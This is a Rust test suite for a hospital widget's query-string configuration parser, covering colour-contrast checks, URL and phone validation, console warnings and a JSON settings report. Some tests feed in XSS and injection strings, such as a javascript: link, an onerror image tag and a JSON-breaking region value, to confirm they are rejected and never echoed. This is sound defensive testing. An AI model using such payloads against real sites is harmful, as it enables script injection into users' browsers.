        near("theme-link", "#[0-7][0-9a-f]{5}|#[0-9a-fA-F]{3,7}"),
        near("theme-brand", "#[0-9a-f][0-9a-f]{5}|#[0-9a-fA-F]{3}"),
    ]
}

fn pairs_strategy() -> impl Strategy<Value = Vec<(String, String)>> {
    let pair = prop_oneof![2 => near_valid_pair(), 1 => (key_strategy(), value_strategy())];
    prop_oneof![
        4 => prop::collection::vec(pair.clone(), 0..12),
        1 => prop::collection::vec(pair, 30..40),
    ]
}

fn is_bidi_or_control(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}'
            | '\u{061C}' | '\u{2028}' | '\u{2029}')
}

/// WCAG 2.x contrast with white, computed here independently of the engine.
fn contrast_with_white(css: &str) -> f64 {
    let channel = |i: usize| {
        let c = f64::from(u8::from_str_radix(&css[i..i + 2], 16).unwrap()) / 255.0;
        if c <= 0.03928 {
            c / 12.92
        } else {
            ((c + 0.055) / 1.055).powf(2.4)
        }
    };
    let l = 0.2126 * channel(1) + 0.7152 * channel(3) + 0.0722 * channel(5);
    1.05 / (l + 0.05)
}

/// `host[:port]` of a DNS name (lowercase labels, at least one dot) or, when allowed, a
/// loopback host.
fn is_host_and_port(authority: &str, loopback: bool) -> bool {
    let (host, port) = match authority.rsplit_once(':') {
        Some((h, p)) if !authority.ends_with(']') => (h, Some(p)),
        _ => (authority, None),
    };
    let port_ok = port.is_none_or(|p| p.parse::<u16>().is_ok_and(|n| n > 0));
    let loopback_ok = loopback && ["localhost", "127.0.0.1", "[::1]"].contains(&host);
    let dns_ok = host.contains('.')
        && host.split('.').all(|label| {
            !label.is_empty()
                && label
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        });
    port_ok && (loopback_ok || dns_ok)
}

/// Everything the widget relies on, checked on any result.
fn check_invariants(parsed: &Parsed) {
    let c = &parsed.config;
    if let Some(language) = &c.language {
        assert!(KNOWN.languages.contains(&language.as_str()), "{language}");
    }
    if let Some(region) = &c.region {
        assert!(KNOWN.regions.contains(&region.as_str()), "{region}");
    }
    assert!(c.theme.windows(2).all(|w| w[0].0 < w[1].0), "{:?}", c.theme);
    for (token, colour) in &c.theme {
        let css = colour.css();
        assert!(css.len() == 7 && css.starts_with('#'), "{css}");
        assert!(css[1..]
            .bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)));
        assert_eq!(Colour::parse(&css), Some(*colour));
        assert!(
            contrast_with_white(&css) >= token.minimum_contrast(),
            "{token:?} {css}"
        );
    }
    if let Some(name) = &c.hospital.name {
        assert!(
            (1..=MAX_NAME_CHARS).contains(&name.chars().count()),
            "{name:?}"
        );
        assert_eq!(name.trim(), name);
        assert!(!name
            .chars()
            .any(|ch| is_bidi_or_control(ch) || ch == '<' || ch == '>'));
        assert!(name.chars().any(char::is_alphanumeric), "{name:?}");
    }
    if let Some(link) = &c.hospital.link {
        let rest = link.strip_prefix("https://").expect("https");
        assert!(link.len() <= MAX_VALUE_BYTES);
        assert!(
            link.bytes()
                .all(|b| (0x21..=0x7e).contains(&b) && !b"\"'<>\\`{}|^".contains(&b)),
            "{link}"
        );
        let authority = rest.split(['/', '?', '#']).next().unwrap();
        assert!(is_host_and_port(authority, false), "{link}");
    }
    if let Some(phone) = &c.hospital.phone {
        let digits = phone.href.strip_prefix("tel:").expect("tel:");
        let digits = digits.strip_prefix('+').unwrap_or(digits);
        assert!((3..=15).contains(&digits.len()), "{phone:?}");
        assert!(digits.bytes().all(|b| b.is_ascii_digit()), "{phone:?}");
        let shown: String = phone.display.chars().filter(char::is_ascii_digit).collect();
        assert_eq!(shown, digits);
        assert!(phone
            .display
            .chars()
            .all(|ch| ch.is_ascii_digit() || " +-().".contains(ch)));
    }
    if let Some(origin) = &c.parent_origin {
        let (https, authority) = match origin.strip_prefix("https://") {
            Some(rest) => (true, rest),
            None => (false, origin.strip_prefix("http://").expect("http(s)")),
        };
        assert!(is_host_and_port(authority, true), "{origin}");
        if !https {
            let host = match authority.find(']') {
                Some(end) => &authority[..=end],
                None => authority.split(':').next().unwrap(),
            };
            assert!(
                ["localhost", "127.0.0.1", "[::1]"].contains(&host),
                "{origin}"
            );
        }
        assert_eq!(
            one("parent", origin).config.parent_origin.as_ref(),
            Some(origin)
        );
    }
    assert!(parsed.warnings.len() <= MAX_PARAMETERS + 1);
    match parsed.console_message() {
        None => assert!(parsed.warnings.is_empty()),
        Some(message) => {
            assert!(!parsed.warnings.is_empty());
            assert!(!message.chars().any(is_bidi_or_control), "{message:?}");
            for w in &parsed.warnings {
                assert!(w.key.chars().count() <= 41);
                assert!(message.contains(&w.to_string()));
            }
        }
    }
}

/// Serialises an accepted config back into a query string.
fn reserialise(c: &HostConfig) -> String {
    let mut out: Vec<(&str, String)> = Vec::new();
    let mut put = |key, value: Option<String>| {
        if let Some(v) = value {
            out.push((key, v));
        }
    };
    put("lang", c.language.clone());
    put("region", c.region.clone());
    put("parent", c.parent_origin.clone());
    put("hospital-name", c.hospital.name.clone());
    put("hospital-link", c.hospital.link.clone());
    put(
        "hospital-phone",
        c.hospital.phone.as_ref().map(|p| p.display.clone()),
    );
    for (token, colour) in &c.theme {
        out.push((token.key(), colour.css()));
    }
    encode(&out)
}

proptest! {
    #![proptest_config(config())]

    /// Any query string, however broken, parses without panicking to a config the widget can
    /// trust.
    #[test]
    fn any_query_string_is_safe(raw in prop_oneof![
        any::<String>(),
        "[?&=%+#;a-zA-Z0-9-]{0,120}",
        "((%[0-9a-fA-F]{2})|[=&a-z#:/-]){0,80}",
    ]) {
        check_invariants(&query(&raw));
    }

    /// Any list of pairs, near-valid or not: never panics, invariants hold, the encoded query
    /// means the same, and what was accepted reads back unchanged.
    #[test]
    fn any_pairs_are_safe(list in pairs_strategy()) {
        let borrowed: Vec<(&str, &str)> = list.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let parsed = pairs(&borrowed);
        check_invariants(&parsed);
        prop_assert_eq!(&query(&format!("?{}", encode(&list))), &parsed);
        let again = query(&reserialise(&parsed.config));
        prop_assert_eq!(&again.config, &parsed.config);
        prop_assert!(again.warnings.is_empty(), "{:?}", again.warnings);
        // HostConfig::settings is that same serialisation, done by the engine.
        prop_assert_eq!(encode(&parsed.config.settings()), reserialise(&parsed.config));
    }

    /// The configuration page's report, for any pairs: valid JSON whose settings are exactly
    /// what the widget would use, with one problem per key that has a warning, and a contrast
    /// only for theme colours the widget looked at.
    #[test]
    fn any_report_agrees_with_the_parser(list in pairs_strategy()) {
        let raw = encode(&list);
        let parsed = query(&raw);
        let report = report(&raw);
        let settings = strings(&report["settings"]);
        prop_assert_eq!(&settings, &map(parsed.config.settings()));
        let mut first_warnings = BTreeMap::new();
        for w in &parsed.warnings {
            first_warnings.entry(w.key.clone()).or_insert_with(|| w.explanation());
        }
        prop_assert_eq!(strings(&report["problems"]), first_warnings);

        for (key, contrast) in report["contrast"].as_object().unwrap() {
            let token = ThemeToken::from_key(key).expect("a theme key");
            let value = &list.iter().find(|(k, _)| k == key).expect("given").1;
            prop_assert_eq!(contrast["minimum"].as_f64(), Some(token.minimum_contrast()));
            let colour = Colour::parse(value.trim()).map(|c| c.css());
            prop_assert_eq!(contrast["colour"].as_str(), colour.as_deref());
            let accepted = parsed.config.theme.iter().any(|(t, _)| *t == token);
            let shown = contrast["ratio"].as_f64().unwrap();
            prop_assert_eq!(shown >= token.minimum_contrast(), accepted, "{} {:?}: {}", key, value, shown);
        }
        for (token, _) in &parsed.config.theme {
            prop_assert!(report["contrast"].get(token.key()).is_some(), "{:?}", token);
        }
    }
}

/// The invariants above are only worth something if the generator reaches accepted values for
/// every setting, not just rejections.
#[test]
fn the_generator_reaches_every_setting() {
    use proptest::strategy::ValueTree;
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let strategy = pairs_strategy();
    let mut reached = [0usize; 9];
    for _ in 0..500 {
        let list = strategy.new_tree(&mut runner).unwrap().current();
        let borrowed: Vec<(&str, &str)> =
            list.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let c = pairs(&borrowed).config;
        let theme = |t| c.theme.iter().any(|(token, _)| *token == t);
        let set = [
            c.language.is_some(),
            c.region.is_some(),
            c.parent_origin.is_some(),
            c.hospital.name.is_some(),
            c.hospital.link.is_some(),
            c.hospital.phone.is_some(),
            theme(ThemeToken::Button),
            theme(ThemeToken::Link),
            theme(ThemeToken::Brand),
        ];
        for (count, set) in reached.iter_mut().zip(set) {
            *count += usize::from(set);
        }
    }
    println!("accepted per setting in 500 generated configs: {reached:?}");
    assert!(reached.iter().all(|&n| n >= 10), "{reached:?}");
}

// ---------------------------------------------------------------------------------------------
// 4. The console message
// ---------------------------------------------------------------------------------------------

#[test]
fn the_console_message_is_none_for_a_clean_config() {
    assert_eq!(query("lang=en&region=uk").console_message(), None);
    assert_eq!(query("").console_message(), None);
}

#[test]
fn the_console_message_names_each_problem_key_on_one_line_without_values() {
    let hostile = [
        ("hospital-link", "javascript:alert('pwned')"),
        ("hospital-name", "<img src=x onerror=alert('pwned')>"),
        ("theme-link", "#fff"),
        ("theme-emergency", "#pwned0"),
        ("tracking", "pwned-id-123"),
        ("region", "pwned"),
        ("lang", "es"),
        ("lang", "pwned"),
        ("parent", "http://pwned.example"),
        ("hospital-phone", "tel:pwned\n999"),
    ];
    let parsed = query(&encode(&hostile));
    assert_eq!(parsed.config.language.as_deref(), Some("es"));
    let message = parsed.console_message().expect("warnings");
    assert!(
        !message.contains('\n') && !message.contains('\r'),
        "{message}"
    );
    assert!(!message.contains("pwned"), "{message}");
    assert!(!message.contains("javascript:alert"), "{message}");
    assert!(!message.contains("<img"), "{message}");
    let expected = [
        "hospital-link: not an https: address; using the default",
        "hospital-name: contains < or >, but it is plain text; using the default",
        "theme-link: colour contrast below 4.5:1 against white; using the default",
        "theme-emergency: the urgency colours cannot be changed; ignored",
        "tracking: not a setting; ignored",
        "region: not offered by this widget; using the default",
        "lang: given more than once; the first one counts",
        "parent: not https: (http: only for localhost, 127.0.0.1 or [::1]); using the default",
        "hospital-phone: not a phone number (3 to 15 digits; spaces, ( ) - . and a leading + allowed); using the default",
    ];
    assert_eq!(message, expected.join(" | "));
}

#[test]
fn warnings_explain_the_contrast_rule_per_token() {
    let parsed = query("theme-button=%23fff&theme-brand=%23fff");
    assert_eq!(
        parsed
            .warnings
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>(),
        [
            "theme-button: colour contrast below 4.5:1 with white text; using the default",
            "theme-brand: colour contrast below 3:1 against white; using the default",
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// 5. The configuration page's report (dist/configure.html)
// ---------------------------------------------------------------------------------------------

fn report(query: &str) -> serde_json::Value {
    let json = report_json(query, &KNOWN);
    serde_json::from_str(&json).unwrap_or_else(|e| panic!("not JSON ({e}): {json}"))
}

/// The members of a JSON object of strings (serde_json reads them into key order).
fn strings(object: &serde_json::Value) -> BTreeMap<String, String> {
    object
        .as_object()
        .unwrap_or_else(|| panic!("not an object: {object}"))
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().expect("a string").to_string()))
        .collect()
}

fn map<K: ToString, V: ToString>(
    pairs: impl IntoIterator<Item = (K, V)>,
) -> BTreeMap<String, String> {
    pairs
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

#[test]
fn settings_are_the_accepted_values_in_their_checked_form() {
    let parsed = query(
        "?theme-brand=%23000&lang=ES-mx&hospital-phone=tel:%2B44%2020%207946%200000\
         &hospital-link=HTTPS://WWW.Hospital.Example/Path&region=US+&theme-button=%23A3C\
         &hospital-name=+St+Mary%27s+&parent=HTTPS://Hospital.Example:443/",
    );
    assert_eq!(parsed.warnings, NO_WARNINGS);
    let expected: Vec<(&str, String)> = [
        ("lang", "es"),
        ("region", "us"),
        ("parent", "https://hospital.example"),
        ("hospital-name", "St Mary's"),
        ("hospital-link", "https://www.hospital.example/Path"),
        ("hospital-phone", "+44 20 7946 0000"),
        ("theme-button", "#aa33cc"),
        ("theme-brand", "#000000"),
    ]
    .into_iter()
    .map(|(k, v)| (k, v.to_string()))
    .collect();
    assert_eq!(parsed.config.settings(), expected);
    assert_eq!(HostConfig::default().settings(), []);
    // Read back: the same configuration, nothing to warn about.
    let again = query(&encode(&parsed.config.settings()));
    assert_eq!(
        again,
        Parsed {
            config: parsed.config,
            warnings: vec![]
        }
    );
}

#[test]
fn the_explanation_is_the_console_warning_without_its_key() {
    let parsed = query(&encode(&[
        ("theme-link", "#fff"),
        ("theme-button", "red"),
        ("hospital-name", "<b>"),
        ("theme-urgency", "#000"),
        ("nonsense", "1"),
        ("theme-link", "#000"),
        ("lang", ""),
        ("region", "mars"),
        ("hospital-link", "http://hospital.example"),
        ("hospital-phone", &"1".repeat(40)),
    ]));
    assert_eq!(parsed.warnings.len(), 10);
    for w in &parsed.warnings {
        assert_eq!(w.to_string(), format!("{}: {}", w.key, w.explanation()));
    }
    let explained: Vec<String> = parsed
        .warnings
        .iter()
        .map(ConfigWarning::explanation)
        .collect();
    assert_eq!(
        explained,
        [
            "colour contrast below 4.5:1 against white; using the default",
            "not a colour of the form #rgb or #rrggbb; using the default",
            "contains < or >, but it is plain text; using the default",
            "the urgency colours cannot be changed; ignored",
            "not a setting; ignored",
            "given more than once; the first one counts",
            "no value; using the default",
            "not offered by this widget; using the default",
            "not an https: address; using the default",
            "value too long; using the default",
        ]
    );
}

#[test]
fn theme_contrast_measures_what_the_check_measures() {
    let close = |value: &str, expected: f64| {
        let ratio = theme_contrast(value).unwrap_or_else(|| panic!("{value:?} is a colour"));
        assert!((ratio - expected).abs() < 0.005, "{value:?}: {ratio}");
    };
    close("#fff", 1.0);
    close("  #000000 ", 21.0);
    close("#767676", 4.54);
    close("#005EB8", contrast_with_white("#005eb8"));
    for not_a_colour in ["", "red", "#ffff", "rgb(0,0,0)", "#00000g", "# 000"] {
        assert_eq!(theme_contrast(not_a_colour), None, "{not_a_colour:?}");
    }
    // Exactly the parser's verdict on every #rgb colour, for each token.
    for token in ThemeToken::ALL {
        for n in 0..4096u32 {
            let value = format!("#{n:03x}");
            let ratio = theme_contrast(&value).unwrap();
            let accepted = one(token.key(), &value).warnings.is_empty();
            assert_eq!(
                ratio >= token.minimum_contrast(),
                accepted,
                "{} {value}: {ratio}",
                token.key()
            );
            assert!(
                (ratio - contrast_with_white(&Colour::parse(&value).unwrap().css())).abs() < 1e-9
            );
        }
    }
}

#[test]
fn a_clean_configuration_reports_its_settings_and_contrast_and_no_problems() {
    let r = report("?region=us&hospital-name=St+Example+Hospital&theme-button=%231d4f91&lang=es");
    assert_eq!(
        strings(&r["settings"]),
        map([
            ("lang", "es"),
            ("region", "us"),
            ("hospital-name", "St Example Hospital"),
            ("theme-button", "#1d4f91"),
        ])
    );
    // In the JSON text, in the order of the table in host_config.rs, whatever the query's order.
    let json = report_json(
        "?region=us&hospital-name=St+Example+Hospital&theme-button=%231d4f91&lang=es",
        &KNOWN,
    );
    assert!(json.starts_with(r###"{"settings":{"lang":"es","region":"us","hospital-name":"St Example Hospital","theme-button":"#1d4f91"},"problems":{},"contrast":{"theme-button":{"colour":"#1d4f91","ratio":8."###), "{json}");
    assert_eq!(r["problems"], serde_json::json!({}));
    // #1d4f91 on white: 8.58:1 (computed independently above), shown rounded down.
    let exact = contrast_with_white("#1d4f91");
    assert_eq!(
        r["contrast"]["theme-button"]["ratio"].as_f64(),
        Some((exact * 100.0).floor() / 100.0)
    );
    assert_eq!(r["contrast"]["theme-button"]["minimum"].as_f64(), Some(4.5));
    assert_eq!(r["contrast"].as_object().unwrap().len(), 1);
    assert_eq!(
        r["offered"],
        serde_json::json!({"lang": ["en", "es"], "region": ["uk", "us", "eu", "au"]})
    );
    assert_eq!(report(""), report("?"));
    assert_eq!(
        report("").to_string(),
        r#"{"contrast":{},"offered":{"lang":["en","es"],"region":["uk","us","eu","au"]},"problems":{},"settings":{}}"#
    );
}

#[test]
fn a_bad_colour_reports_its_problem_and_its_contrast_but_is_not_a_setting() {
    // #777777 has 4.48:1 with white: just short of 4.5, and shown as 4.47, never as 4.50.
    let r = report("theme-button=%23777777&theme-link=%23ffcc00&theme-brand=blue");
    assert_eq!(r["settings"], serde_json::json!({}));
    assert_eq!(
        strings(&r["problems"]),
        map([
            (
                "theme-button",
                "colour contrast below 4.5:1 with white text; using the default"
            ),
            (
                "theme-link",
                "colour contrast below 4.5:1 against white; using the default"
            ),
            (
                "theme-brand",
                "not a colour of the form #rgb or #rrggbb; using the default"
            ),
        ])
    );
    assert_eq!(
        r["contrast"]["theme-button"],
        serde_json::json!({"colour": "#777777", "ratio": 4.47, "minimum": 4.5})
    );
    assert_eq!(
        r["contrast"]["theme-link"],
        serde_json::json!({"colour": "#ffcc00", "ratio": 1.51, "minimum": 4.5})
    );
    assert!(
        r["contrast"].get("theme-brand").is_none(),
        "not a colour, so no contrast"
    );
    // The lightest greys that pass are shown at or above their minimum.
    let r = report("theme-button=%23767676&theme-brand=%23949494");
    assert_eq!(
        r["contrast"]["theme-button"],
        serde_json::json!({"colour": "#767676", "ratio": 4.54, "minimum": 4.5})
    );
    assert_eq!(r["contrast"]["theme-brand"]["ratio"].as_f64(), Some(3.03));
    assert_eq!(r["contrast"]["theme-brand"]["minimum"].as_f64(), Some(3.0));
    assert_eq!(r["problems"], serde_json::json!({}));
}

#[test]
fn the_report_reads_the_parameters_the_widget_reads() {
    // The first occurrence counts, for the problem and for the contrast alike.
    let r = report("theme-link=%23fff&theme-link=%23000");
    assert_eq!(r["contrast"]["theme-link"]["ratio"].as_f64(), Some(1.0));
    assert_eq!(
        r["problems"]["theme-link"],
        "colour contrast below 4.5:1 against white; using the default"
    );
    assert_eq!(r["settings"], serde_json::json!({}));
    // A value too long to look at has no contrast.
    let long = format!("theme-brand=%23000{}", "+".repeat(MAX_VALUE_BYTES));
    let r = report(&long);
    assert_eq!(
        r["problems"]["theme-brand"],
        "value too long; using the default"
    );
    assert!(r["contrast"].get("theme-brand").is_none());
    // Nothing after the 32nd parameter is looked at.
    let mut many: Vec<(String, String)> = (0..MAX_PARAMETERS)
        .map(|i| (format!("x{i}"), String::new()))
        .collect();
    many.push(("theme-brand".into(), "#000".into()));
    let r = report(&encode(&many));
    assert!(r["contrast"].get("theme-brand").is_none());
    assert_eq!(r["settings"], serde_json::json!({}));
    assert_eq!(
        r["problems"]["theme-brand"],
        "more than 32 parameters; this one and the rest are ignored"
    );
}

#[test]
fn the_report_never_repeats_a_rejected_value_and_escapes_what_it_keeps() {
    let hostile = [
        ("hospital-link", "javascript:alert('pwned')"),
        ("hospital-name", "<img src=x onerror=alert('pwned')>"),
        ("region", "pwned\"},\"settings\":{\"region\":\"us"),
        ("hospital-phone", "tel:pwned\n999"),
        ("pwned\"key\u{0}\u{202E}", "1"),
    ];
    let json = report_json(&encode(&hostile), &KNOWN);
    assert!(!json.contains("pwned\""), "{json}");
    assert!(!json.contains("alert"), "{json}");
    assert!(!json.contains('\u{202E}'), "{json}");
    let r: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(r["settings"], serde_json::json!({}));
    assert_eq!(r["problems"].as_object().unwrap().len(), 5);
    // A key is shown as the console shows it (control and direction characters replaced), and
    // the JSON escapes quotes, backslashes and control characters in what it keeps.
    assert!(
        r["problems"].get("pwned\"key\u{FFFD}\u{FFFD}").is_some(),
        "{json}"
    );
    let name = "Guy's \"Quoted\" \\ Hospital é 聖路加";
    let json = report_json(&encode(&[("hospital-name", name)]), &KNOWN);
    assert!(
        json.contains(r#""hospital-name":"Guy's \"Quoted\" \\ Hospital é 聖路加""#),
        "{json}"
    );
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&json).unwrap()["settings"]["hospital-name"],
        name
    );
    let json = report_json(&encode(&[("a\u{1}\u{1f}", "1")]), &KNOWN);
    assert!(
        json.contains(r#""a\ufffd\ufffd""#) || json.contains("a\u{FFFD}\u{FFFD}"),
        "{json}"
    );
}
